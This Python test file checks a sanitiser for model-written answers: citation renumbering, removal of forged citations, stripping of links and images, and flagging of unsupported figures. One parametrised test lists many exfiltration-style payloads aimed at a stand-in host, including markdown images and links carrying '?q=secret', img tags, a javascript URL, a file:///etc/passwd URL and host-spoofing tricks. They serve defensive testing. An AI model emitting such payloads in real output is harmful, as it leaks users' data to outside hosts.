"""What a model wrote is checked as if a stranger had: citations, links, pictures, figures."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.core.web.citations import REMOVED, check, unsupported, without_marks

PICTURE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
URLS = ["https://example.org/honey", "https://www.example.com/wax?a=1"]


@pytest.mark.parametrize(
    ("told", "shown", "cited", "forged"),
    [
        ("Honey [1].", "Honey [1].", {1}, ()),
        ("Honey [1, 2].", "Honey [1][2].", {1, 2}, ()),
        ("Honey [2;1].", "Honey [2][1].", {1, 2}, ()),
        ("Honey [3].", "Honey.", set(), (3,)),
        ("Honey [1][9] and wax [0].", "Honey [1] and wax.", {1}, (9, 0)),
        ("Honey [1, 7].", "Honey [1].", {1}, (7,)),
        ("Array[1] [ 2 ]", "Array[1] [2]", {1, 2}, ()),
        ("No source", "No source", set(), ()),
        ("[12345]", "[12345]", set(), ()),
    ],
)
def test_citations(told: str, shown: str, cited: set[int], forged: tuple[int, ...]) -> None:
    checked = check(told, URLS)
    assert (checked.text, set(checked.cited), checked.forged) == (shown, cited, forged)


@pytest.mark.parametrize(
    "told",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example/?q=secret)",
        "https://evil.example/?q=secret",
        "HTTPS://EVIL.example/?q=secret",
        "www.evil.example/?q=secret",
        "<https://evil.example/?q=secret>",
        '<img src="https://evil.example/?q=secret">',
        "<img src=//evil.example/?q=secret>",
        "[a]: https://evil.example/?q=secret",
        "![a][b]\n\n[b]: https://evil.example/?q=secret",
        "[![x](https://evil.example/1)](https://evil.example/?q=secret)",
        "javascript://evil.example/%0aalert(1)",
        "ftp://evil.example/?q=secret",
        "http:\\\\evil.example\\?q=secret",
        "file:///etc/passwd?evil.example",
        "mailto:x@evil.example",
        "data:text/html;base64,evil.example",
        "https://example.org@evil.example/honey",
        "https://example.org.evil.example/honey",
        "https://example.org/honey/../evil.example",
        "tg://resolve?domain=evil.example",
    ],
)
def test_no_address_but_a_sources_stays_in_findings(told: str) -> None:
    checked = check(f"Look: {told} there [1].", URLS)
    assert "evil.example" not in checked.text, checked.text
    assert checked.links_removed > 0
    assert "](" not in checked.text
    assert checked.cited == {1}


def test_a_host_with_more_behind_it_is_no_link_any_more() -> None:
    told = check("See a.evil.example/?q=secret and Node.js/Express, or 3.5/4.", URLS).text
    assert told == "See a.evil.example /?q=secret and Node.js /Express, or 3.5/4."


def test_a_sources_own_address_may_stay() -> None:
    told = "See https://example.org/honey, [wax](https://example.com/wax?a=1&utm_source=x)."
    assert check(told, URLS).text == (
        "See https://example.org/honey, wax https://example.com/wax?a=1&utm_source=x."
    )


def test_what_acts_instead_of_showing_is_made_visible() -> None:
    assert check("a\x1b[2Jb\u202ec", []).text == "a\ufffd[2Jb\ufffdc"


@pytest.mark.parametrize(
    "told", ["a <b>bold</b> word", "5 < 6 and 7 > 2", "C:\\x", "12:30", "a: b"]
)
def test_plain_words_stay_as_they_are(told: str) -> None:
    shown = check(told, []).text
    assert shown == told.replace("<b>", "").replace("</b>", "")
    assert REMOVED not in shown


@given(st.text(alphabet="[]()!<>:/ ahtps.w1290,\n", max_size=200))
def test_checking_twice_changes_nothing_more(told: str) -> None:
    once = check(told, URLS)
    twice = check(once.text, URLS)
    assert twice.forged == ()
    assert twice.cited == once.cited
    assert PICTURE.search(once.text) is None


def test_figures_that_no_cited_page_has_are_pointed_at() -> None:
    texts = ["In 2024 the firm made 1,234.5 million.", "It has 12 offices."]
    told = (
        "It made 1234.5 million [1]. It made 999 million [1]. It has 12 offices [2]. "
        "It has 12 offices [1]. There are 3 reasons [1]. No source 777."
    )
    assert unsupported(told, texts) == ("It made 999 million [1].", "It has 12 offices [1].")


def test_marks_of_a_prompt_are_not_shown() -> None:
    assert without_marks("<<<abc page 1>>> so", ("abc",)) == "<<< page 1>>> so"
